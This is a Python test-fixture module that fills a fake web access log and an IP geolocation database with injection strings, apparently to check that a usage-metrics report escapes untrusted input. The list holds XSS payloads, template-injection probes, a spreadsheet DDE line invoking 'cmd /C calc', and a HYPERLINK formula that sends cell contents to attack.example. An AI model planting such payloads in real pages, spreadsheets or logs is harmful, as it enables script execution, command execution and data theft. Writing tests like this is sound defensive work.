"""A log and an address database in which all that others can choose is an attack."""

from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote

from flow import DAY, Flow, request
from mmdb_writer import MMDBWriter
from netaddr import IPSet

from usage_metrics.counting.asked_texts import LEAST_VISITORS

ATTACKS = (
    "</script><script>attacked('script')</script>",
    "<!--<script>attacked('comment')//",
    "\"><img src=x onerror=attacked('image')>",
    "' autofocus onfocus=attacked('focus') x='",
    "javascript:attacked('scheme')",
    "{{ 7 * 191 }}{% raw %}${7 * 191}<%= 7 * 191 %>#{7 * 191}",
    "\u202egnirts \u2066desrever\u2069",
    "\x1b[31mred\x07\x00\x7f",
    "\u2028attacked('line')\u2029",
    "</title></style></table></textarea><svg onload=attacked('svg')>",
    "[click](javascript:attacked('markdown')) \\u003cscript\\u003e",
    "__proto__",
    "constructor",
    '=HYPERLINK("https://attack.example/?"&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1\r",
    "<!channel> <!here> <@U012AB3CD> @everyone",
)
"""Each is tried in every place."""

FIREFOX = "Mozilla/5.0 (X11; Linux x86_64; rv:147.0) Gecko/20100101 Firefox/147.0"
VISITOR = "198.51.100.77"
"""Stands in paths and referers, too."""

LISTENER = "window.attacks = []; window.attacked = (a) => attacks.push(a);"
"""Notes in a page which attacks ran."""


def attacked_log(flow: Flow) -> None:
    entries: list[dict[str, Any]] = []
    for number, attack in enumerate(ATTACKS):
        for place in ("userAgent", "requestUrl", "referer", "table", "organization"):
            values: dict[str, Any] = {
                "userAgent": FIREFOX,
                "requestUrl": f"https://data.example/pudl/plants{number}.json",
                "remoteIp": f"8.8.{number}.8",
            }
            if place == "requestUrl":
                values[place] = f"https://data.example/pudl/{attack}.json?{attack}"
            elif place == "table":
                values["requestUrl"] = f"https://data.example/pudl/{attack}"
            elif place == "referer":
                values[place] = f"https://{attack}.example/{attack}"
            elif place == "organization":
                values["remoteIp"] = f"9.9.{number}.9"
            else:
                values[place] = attack
            entries.append(request(f"{number}-{place}", **values))
        entries += _by_many(number, attack)
    entries.append(
        request(
            "address",
            requestUrl=f"https://data.example/pudl/{VISITOR}.json",
            referer=f"http://{VISITOR}/",
            remoteIp="8.8.0.8",
        )
    )
    flow.export(DAY, *entries)


def _by_many(number: int, attack: str) -> Iterator[dict[str, Any]]:
    """What is named only if several visitors have it, and a path that is not there."""
    site = "https://data.example"
    for visitor in range(LEAST_VISITORS):
        at: dict[str, Any] = {
            "remoteIp": f"8.8.{number}.{visitor}",
            "referer": f"{site}.org/{attack}",
        }
        for name, url, status in (
            ("search", f"{site}/pudl/plants?_search={quote(attack)}", 200),
            ("sql", f"{site}/pudl?sql={quote(attack)}", 200),
            ("lost", f"{site}/{attack}", 404),
        ):
            of = f"{number}-{name}-{visitor}"
            yield request(of, requestUrl=url, status=status, userAgent=FIREFOX, **at)


def attacked_database(path: Path) -> None:
    """One in which organisations, cities and countries have such names, too.

    Each is also a university, since the notebook draws a chart of these.
    """
    writer = MMDBWriter(4, ipv4_compatible=False)
    for number, attack in enumerate(ATTACKS):
        for network, name in (("8.8", attack), ("9.9", f"{attack} University")):
            record = {
                "country": attack,
                "country_code": attack if number % 2 else "DE",
                "asn": f"AS{64500 + number}" if number % 3 else attack,
                "as_name": name,
                "city": attack,
                "region": attack,
            }
            writer.insert_network(IPSet([f"{network}.{number}.0/24"]), record)
    writer.to_db_file(str(path))
